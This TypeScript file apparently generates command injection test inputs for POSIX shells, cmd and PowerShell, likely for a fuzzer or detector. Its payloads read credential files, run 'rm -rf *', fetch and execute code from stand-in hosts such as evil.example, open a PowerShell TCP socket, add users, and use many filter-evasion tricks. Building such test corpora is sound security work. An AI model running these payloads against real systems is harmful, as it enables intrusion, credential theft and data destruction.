// Command injection by the grammar of shells: what the value stands in, what parts the command from it, the command,
// and how it is written so as not to be recognised. POSIX shells, cmd and PowerShell.

import type { Random } from './random.ts'

type Make = (random: Random) => string

const number: Make = (r) => String(1 + r.below(9999))

const word: Make = (r) => r.pick(['foo', 'report', 'x1', 'img', 'data', 'abc'])

const host: Make = (r) => r.pick(['evil.example', '10.0.0.1', 'a1b2.oast.example', '192.0.2.7:8000'])

const file: Make = (r) =>
  r.pick(['/etc/passwd', '/etc/shadow', '/proc/self/environ', '/var/log/auth.log', '~/.ssh/id_rsa', '.env'])

const before: Make = (r) => r.pick(['', word(r), '127.0.0.1', 'a.txt', number(r), `${word(r)}@example.com`])

const closing: Make = (r) => r.pick(['', '', "'", '"', "')", '")', '}', '\'"'])

const parting: Make = (r) =>
  `${r.pick(['', ' ', '\t'])}${r.pick([';', '|', '||', '&&', '&', ';;', '|&', ';\n'])}${r.pick(['', ' ', '\t'])}`

const tail: Make = (r) => r.pick(['', '', ';', ' #', ' &', ' |', " '", ' || true', ' 2>&1', ' >/dev/null'])

const behind = (r: Random, command: string): string =>
  `${before(r)}${closing(r)}${parting(r)}${command}${tail(r)}`

const plain: Make = (r) =>
  r.pick([
    'id',
    'whoami',
    'uname -a',
    `cat ${file(r)}`,
    `head -n 5 ${file(r)}`,
    `grep -r pass /var/www`,
    `awk '{print}' ${file(r)}`,
    'ls -la ~',
    'ps aux',
    'netstat -an',
    'find / -name "*.conf"',
    'rm -rf *',
    'crontab -l',
    `php -r 'phpinfo();'`,
    `python3 -c 'print(1)'`,
    `echo ${number(r)}`,
    `expr ${number(r)} + ${number(r)}`,
    'which python',
    'wc -l /etc/group',
  ])

const blind: Make = (r) =>
  r.pick([
    `sleep ${1 + r.below(20)}`,
    `ping -c 5 ${host(r)}`,
    `nslookup $(whoami).${host(r)}`,
    `nslookup \`whoami\`.${host(r)}`,
    `curl http://${host(r)}/x`,
    `wget -qO- ${host(r)} | sh`,
    'usleep 5000000',
    'if [ $(whoami) = root ]; then sleep 5; fi',
    'for i in 1 2 3; do sleep 5; done',
    `while true; do ping ${host(r)}; done`,
    `[ -f ${file(r)} ] && sleep 3`,
    'case x in x) sleep 5;; esac',
    `timeout 5 ping ${host(r)}`,
    `nohup curl ${host(r)}`,
  ])

/** A command's name, written so that only a shell reads it. */
const split = (r: Random, name: string): string => {
  const at = 1 + r.below(name.length - 1)
  const [one, other] = [name.slice(0, at), name.slice(at)]
  return r.pick([
    `${one}''${other}`,
    `${one}""${other}`,
    `${one}$@${other}`,
    `${one}\${x}${other}`,
    `${one}$()${other}`,
    `${one}\`\`${other}`,
    `'${one}'${other}`,
    `${one}\\\n${other}`,
    `$'${name}'`,
    name.split('').join("''"),
    name.split('').join('\\'),
  ])
}

const evaded: Make = (r) => {
  const reader = r.pick(['cat', 'head', 'tail', 'less', 'tac'])
  return r.pick([
    `${split(r, reader)} ${file(r)}`,
    `${reader}${r.pick(['${IFS}', '$IFS', '$IFS$9', '${IFS%??}', '<'])}${file(r)}`,
    `{${reader},${file(r)}}`,
    `/b?n/${r.pick(['c?t', 'ca*', '[c]at'])} ${file(r)}`,
    `/u*r/bin/${r.pick(['id', 'who*mi'])}`,
    `a=c;b=at;$a$b ${file(r)}`,
    `z=cat;\${z} ${file(r)}`,
    `a=(cat /etc/passwd);\${a[@]}`,
    'IFS=,;`cat<<<cat,/etc/passwd`',
    `$0${r.pick(['<<<id', ' -c id'])}`,
    `\${x:-${r.pick(['id', 'whoami'])}}`,
    `\${SHELL:0:1}bin/id`,
    `echo aWQ=|base64 -d|${r.pick(['sh', 'bash'])}`,
    `$(printf '\\x69\\x64')`,
    `$(rev<<<imaohw)`,
    `$(<${file(r).replace('.env', '/x')})`,
    `/./bin/./id`,
    `/home/${word(r)}/a.sh`,
    `. ./${word(r)}.sh`,
    `<${file(r)} cat`,
    `\`echo id\``,
  ])
}

const windows: Make = (r) =>
  r.pick([
    'dir c:\\',
    'ipconfig /all',
    `net user ${word(r)} P@ss /add`,
    'type c:\\windows\\win.ini',
    '%COMSPEC% /c dir',
    'c:\\windows\\system32\\cmd.exe /c dir',
    `certutil -urlcache -f http://${host(r)}/x x.exe`,
    `bitsadmin /transfer x http://${host(r)}/x c:\\x.exe`,
    `mshta http://${host(r)}/x.hta`,
    "for /f %i in ('whoami') do nslookup %i.evil.example",
    'if exist c:\\x dir',
    'calc.exe',
    'w^ho^ami',
    'n^et user',
    'route print',
  ])

const powershell: Make = (r) =>
  r.pick([
    `IEX (iwr http://${host(r)}/x)`,
    `iex(irm ${host(r)})`,
    `Invoke-Expression (Invoke-WebRequest http://${host(r)}/x).Content`,
    'Get-ADUser -Filter *',
    `Test-Connection ${host(r)}`,
    'Start-Sleep -s 5',
    'Stop-Computer',
    "&('i'+'ex') 'whoami'",
    '& {whoami}',
    '$env:USERNAME',
    `$c=New-Object Net.Sockets.TCPClient('${host(r)}',4444)`,
    'I`nv`oke-Expr`ession whoami',
    'powershell -enc SQBFAFgA',
    'powershell Get-Process',
    `Resolve-DnsName ${host(r)}`,
  ])

const substituted: Make = (r) => {
  const command = r.pick([plain, blind])(r).replaceAll('`', '')
  return `${before(r)}${closing(r)}${r.chance(0.5) ? `$(${command})` : `\`${command}\``}${r.pick(['', '"', "'", '.txt'])}`
}

export const shells: Readonly<Record<string, Make>> = {
  'shell: commands': (r) => behind(r, plain(r)),
  'shell: blind': (r) => behind(r, blind(r)),
  'shell: substitutions': substituted,
  'shell: evasions': (r) => behind(r, evaded(r)),
  'shell: cmd': (r) =>
    `${before(r)}${r.pick(['', '"'])} ${r.pick(['&', '&&', '|', '||'])} ${windows(r)}${r.pick(['', ' &', ' &rem'])}`,
  'shell: PowerShell': (r) =>
    `${before(r)}${r.pick(['', '"', "')"])}${r.pick([';', '|', '&'])}${powershell(r)}${r.pick(['', ';', ' #'])}`,
}
